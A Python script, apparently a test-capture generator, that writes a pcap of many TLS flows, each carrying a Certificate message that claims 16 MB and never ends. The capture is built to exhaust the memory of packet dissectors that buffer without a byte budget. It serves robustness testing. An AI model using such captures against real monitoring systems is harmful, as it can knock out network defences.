"""Attack capture: N TCP flows to port 443, each a handshake, then TLS
handshake records from the server carrying one Certificate message that
claims 16 MB and never ends (BYTES of records per flow, 1448-byte segments).
A dissector that buffers the message outside the session's byte budget
grows by N x BYTES.  Usage: tls_endless_certificate.py N BYTES OUT.pcap"""
import struct, sys
n_flows = int(sys.argv[1]); per_flow = int(sys.argv[2]); out = sys.argv[3]
def ip_tcp(src, dst, sport, dport, seq, ack, flags, payload):
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0) + payload
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, bytes(src), bytes(dst))
    eth = b'\x00' * 12 + b'\x08\x00'
    return eth + ip + tcp
with open(out, 'wb') as f:
    f.write(struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
    t = 0
    def w(pkt):
        global t
        t += 1
        f.write(struct.pack('<IIII', t // 1000000, t % 1000000, len(pkt), len(pkt)) + pkt)
    for i in range(n_flows):
        c = [10, (i >> 16) & 255, (i >> 8) & 255, i & 255]; s = [10, 255, 0, 1]
        cp = 10000 + (i % 50000)
        w(ip_tcp(c, s, cp, 443, 1000, 0, 0x02, b''))
        w(ip_tcp(s, c, 443, cp, 5000, 1001, 0x12, b''))
        w(ip_tcp(c, s, cp, 443, 1001, 5001, 0x10, b''))
        seq = 5001
        first = True
        sent = 0
        while sent < per_flow:
            body = b''
            if first:
                body = b'\x0b' + (0xfffff0).to_bytes(3, 'big')
                first = False
            body += b'A' * (16000 - len(body))
            rec = b'\x16\x03\x03' + struct.pack('!H', len(body)) + body
            # split records into 1448-byte segments
            for k in range(0, len(rec), 1448):
                seg = rec[k:k+1448]
                w(ip_tcp(s, c, 443, cp, seq, 1001, 0x18, seg)); seq += len(seg)
            sent += len(rec)
